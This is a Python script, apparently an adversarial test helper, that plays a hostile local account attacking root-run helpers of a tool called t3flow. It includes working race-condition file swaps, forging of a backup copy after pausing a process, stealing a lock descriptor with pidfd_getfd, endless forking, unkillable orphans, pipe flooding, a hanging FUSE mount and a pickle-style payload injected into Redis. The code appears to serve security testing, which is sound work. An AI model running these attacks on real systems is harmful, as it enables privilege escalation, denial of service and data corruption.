"""Attacks by a hostile account, each in its own process. usage: hostile.py DEED ARGUMENT..."""

import contextlib
import ctypes
import errno
import fcntl
import json
import os
import shutil
import signal
import socket
import struct
import sys
import time
from pathlib import Path

_libc = ctypes.CDLL(None, use_errno=True)
PIDFD_GETFD = 438


def deep(folder: Path, levels: int = 3000) -> None:
    """Nest folders deeper than Python's own removal goes."""
    folder.mkdir(exist_ok=True)
    descriptor = os.open(folder, os.O_RDONLY)
    for _ in range(levels):
        os.mkdir("d", dir_fd=descriptor)
        below = os.open("d", os.O_RDONLY, dir_fd=descriptor)
        os.close(descriptor)
        descriptor = below


def put(kind: str, place: Path, goal: str) -> None:
    """Put something odd at a free path."""
    if kind == "symlink":
        place.symlink_to(goal)
    elif kind == "fifo":
        os.mkfifo(place)
    elif kind == "folder":
        place.mkdir()
    elif kind == "hardlink":
        os.link(goal, place)
    elif kind == "device":
        os.mknod(place, 0o20666, os.makedev(1, 5))
    elif kind == "sparse":
        with place.open("wb") as file:
            file.truncate(8 * 2**40)


def swap(place: Path, *goals: str) -> None:
    """Put one thing after another at a path as fast as possible, including the real one."""
    real = place.with_name("real")
    shutil.copy(place, real)
    for number in range(10**9):
        other = place.with_name(f"other-{number}")
        with contextlib.suppress(OSError):
            if number % 4 == 0:
                shutil.copy(real, other)
            elif number % 4 == 1:
                os.mkfifo(other)
            else:
                other.symlink_to(goals[number % len(goals)])
            os.rename(other, place)


def swap_folder(place: Path, goal: str) -> None:
    """Swap a folder and a link to another folder with the same names, as fast as possible."""
    link, away = place.with_name(f"{place.name}-link"), place.with_name(f"{place.name}-away")
    link.symlink_to(goal)
    print("swapping", flush=True)
    while True:
        with contextlib.suppress(OSError):
            os.rename(place, away)
            os.rename(link, place)
            os.rename(place, link)
            os.rename(away, place)


def breed(seconds: str) -> None:
    """Fork into a new session again and again, each child the parent of the next, so that no list of processes is ever up to date."""
    print("breeding", flush=True)
    deadline = time.monotonic() + float(seconds)
    while time.monotonic() < deadline:
        if os.fork() != 0:
            os._exit(0)
        with contextlib.suppress(OSError):
            os.setsid()


def survive(seconds: str, line: str) -> None:
    """Write lines for a while, orphaned, in a new session, with SIGTERM ignored and not dumpable."""
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    _libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE
    for number in range(3):
        os.close(number)
    deadline = time.monotonic() + float(seconds)
    while time.monotonic() < deadline:
        time.sleep(0.01)
        with contextlib.suppress(OSError), open(line, "a") as file:
            file.write("here\n")


def helper_of_mine(command: str) -> int:
    """Return the pid of t3flow's program in this account's home, once it runs."""
    while True:
        for entry in Path("/proc").glob("[0-9]*"):
            with contextlib.suppress(OSError):
                words = (entry / "cmdline").read_bytes().split(b"\0")
                if (
                    entry.stat().st_uid == os.getuid()
                    and command.encode() in words
                    and any(b"home/program.py" in w for w in words[:4])
                ):
                    return int(entry.name)


def forge(box: Path, kind: str, goal: str) -> None:
    """Wait until the copy in the drop box is written and checked, then replace it before root takes it."""
    copy, other = box / "state.sqlite", Path(f"{goal}.{kind}")
    if kind == "deep":
        deep(Path(goal) / "deep", 3000)
    elif kind not in ("grow", "symlink", "hardlink"):
        put(kind, other, goal)
    while True:
        pid, checked = helper_of_mine("backup"), False
        with contextlib.suppress(OSError):
            while True:
                held = [os.readlink(f"/proc/{pid}/fd/{name}") for name in os.listdir(f"/proc/{pid}/fd")]
                checked = checked or (str(copy) in held and copy.stat().st_mode & 0o777 == 0o600)
                if checked and str(copy) not in held:
                    os.kill(pid, signal.SIGSTOP)
                    while Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] in "RSD":
                        pass
                    break
        with contextlib.suppress(OSError):
            if kind == "deep":
                os.rename(Path(goal) / "deep", box / "deep")
            elif kind == "grow":
                with copy.open("ab") as file:
                    deadline = time.monotonic() + 1.5
                    while time.monotonic() < deadline:
                        file.write(bytes(2**20))
            elif kind in ("symlink", "hardlink"):
                copy.unlink()
                put(kind, copy, goal)
            else:
                copy.unlink()
                os.rename(other, copy)
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGCONT)
        if checked:
            return


def steal() -> None:
    """Take the lock's descriptor out of a helper, try to lock all others out with it, and hide it in a message."""
    pid = helper_of_mine("state")
    while not (
        numbers := [n for n in os.listdir(f"/proc/{pid}/fd") if "children.lock" in os.readlink(f"/proc/{pid}/fd/{n}")]
    ):
        pass
    lock = _libc.syscall(PIDFD_GETFD, os.pidfd_open(pid), int(numbers[0]), 0)
    assert lock >= 0, ctypes.get_errno()
    found = []
    for attempt in (
        lambda: os.write(lock, b"rubbish"),
        lambda: fcntl.fcntl(lock, fcntl.F_OFD_SETLK, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0)),
        lambda: os.ftruncate(lock, 10**9),
        lambda: fcntl.flock(lock, fcntl.LOCK_EX),
    ):
        try:
            attempt()
            found.append("done")
        except OSError as error:
            found.append(errno.errorcode[error.errno])
    one, other = socket.socketpair()
    socket.send_fds(one, [b"x"], [lock])
    os.close(lock)
    print(json.dumps(found), flush=True)
    time.sleep(60)
    other.close()


def flood(command: str) -> None:
    """Write without end into the pipe that root reads from a helper."""
    descriptor = -1
    while descriptor < 0:
        with contextlib.suppress(OSError):
            descriptor = _libc.syscall(PIDFD_GETFD, os.pidfd_open(helper_of_mine(command)), 1, 0)
    while True:
        os.write(descriptor, b"[" * 65536)


def plant(place: Path, goal: str) -> None:
    """Put a link or a folder at a path whenever this account has nothing there."""
    print("planting", flush=True)
    while True:
        with contextlib.suppress(OSError):
            place.symlink_to(goal)
        with contextlib.suppress(OSError):
            place.unlink()
            place.mkdir()
            place.rmdir()


def listen(port: str, address: str, how: str = "listens") -> None:
    """Take a port on an address; "binds" does not listen, so no table of the kernel shows it."""
    server = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
    if ":" in address:
        server.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    server.bind((address, int(port)))
    if how == "listens":
        server.listen()
    print("listening", flush=True)
    time.sleep(60)


def hold(command: str) -> None:
    """Send SIGSTOP to each of t3flow's helpers in the home as soon as it runs."""
    print("holding", flush=True)
    while True:
        with contextlib.suppress(OSError):
            os.kill(helper_of_mine(command), signal.SIGSTOP)


def hang(descriptor: str) -> None:
    """Mount a FUSE filesystem that accepts every request and answers only the first."""
    while True:
        asked = os.read(int(descriptor), 2**17)
        _, operation, unique = struct.unpack("IIQ", asked[:16])
        if operation == 26:  # FUSE_INIT
            answer = struct.pack("4I2H2I2H8I", 7, 31, 65536, 0, 12, 9, 65536, 1, 0, 0, *[0] * 8)
            os.write(int(descriptor), struct.pack("IiQ", 16 + len(answer), 0, unique) + answer)
            print("mounted", flush=True)


def push(path: str, key: str, count: str) -> None:
    """Write garbage into a queue through the socket of its Redis, if it is accessible."""
    with socket.socket(socket.AF_UNIX) as redis:
        try:
            redis.connect(path)
        except PermissionError:
            print("closed")
            return
        for rubbish in (b"x" * 70000, b'{"message": {}}', b"\x80\x04\x95cposix\nsystem\n"):
            for number in range(int(count)):
                parts = (b"ZADD", key.encode(), b"%d" % -number, rubbish + b"%d" % number)
                redis.sendall(b"*4\r\n" + b"".join(b"$%d\r\n%s\r\n" % (len(part), part) for part in parts))
                redis.recv(100)
        print("written")


def attempts(*words: str) -> None:
    """Try each of `read:PATH`, `list:PATH`, `write:PATH`, `make:FOLDER`, `remove:PATH`, `signal:PID`; print those that succeed."""
    done = []
    for word in words:
        kind, _, place = word.partition(":")
        try:
            if kind == "read":
                os.read(os.open(place, os.O_RDONLY | os.O_NONBLOCK), 1)
            elif kind == "list":
                os.listdir(place)
            elif kind == "write":
                os.close(os.open(place, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK))
            elif kind == "make":
                os.mkdir(f"{place}/mallory-was-here")
            elif kind == "remove":
                os.rename(place, f"{place}.gone")
            elif kind == "signal":
                os.kill(int(place), signal.SIGKILL)
            done.append(word)
        except OSError as error:
            if error.errno not in (errno.EACCES, errno.EPERM):
                done.append(f"{word}: {error}")
    print(json.dumps(done))


if __name__ == "__main__":
    deeds = {
        each.__name__: each
        for each in (
            *(deep, put, swap, swap_folder, breed, survive, forge, steal, flood, plant, listen, attempts, hold, hang),
            push,
        )
    }
    first = {
        "deep": (Path,),
        "put": (str, Path, str),
        "swap": (Path,),
        "forge": (Path,),
        "plant": (Path,),
        "swap_folder": (Path,),
    }
    kinds = first.get(sys.argv[1], ())
    arguments = [(kinds[number] if number < len(kinds) else str)(word) for number, word in enumerate(sys.argv[2:])]
    deeds[sys.argv[1]](*arguments)
